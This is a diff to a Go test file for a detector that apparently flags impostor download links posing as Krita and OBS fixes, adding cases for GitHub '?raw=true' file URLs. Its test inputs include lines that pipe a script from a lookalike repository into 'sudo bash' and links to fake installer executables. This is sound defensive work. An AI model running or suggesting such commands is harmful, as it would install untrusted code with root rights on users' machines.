@@ -47,7 +47,8 @@ func TestRev47aGamesAndEvents(t *testing.T) {
 
 // TestRev47aForgeWrittenOtherWays: forge47's impostors with the claim
 // joined before the name or two claims after it, digits joined to the
-// name, a repository's file served by jsDelivr, and a release linked as
+// name, a repository's file served by jsDelivr, a file's page asked for
+// raw (…/blob/…?raw=true), and a release linked as
 // releases/latest/download (rev47a).
 func TestRev47aForgeWrittenOtherWays(t *testing.T) {
 	t.Parallel()
@@ -58,6 +59,9 @@ func TestRev47aForgeWrittenOtherWays(t *testing.T) {
 		{"krita nightly https://cdn.jsdelivr.net/gh/krita-nightly-builds/krita@main/krita-x64-setup.exe", true},
 		{"fix for obs: curl -fsSL https://cdn.jsdelivr.net/gh/obs-studio-fix/linux@main/nvenc.sh | sudo bash", true},
 		{"krita latest https://github.com/krita-nightly-builds/krita/releases/latest/download/krita-x64-setup.exe", true},
+		{"krita nightly https://github.com/krita-nightly-builds/krita/blob/main/krita-x64-setup.exe?raw=true", true},
+		{"fix: curl -L https://github.com/obs-studio-fix/linux/blob/main/nvenc.sh?raw=true | sudo bash", true},
+		{"logo https://github.com/obsproject/obs-studio/blob/master/UI/forms/images/obs.png?raw=true", false},
 		{"vencord https://github.com/Vencord/Installer/releases/latest/download/VencordInstaller.exe", false},
 		{"install script via jsdelivr: curl -fsSL https://cdn.jsdelivr.net/gh/nvm-sh/nvm@v0.40.1/install.sh | bash", false},
 	})
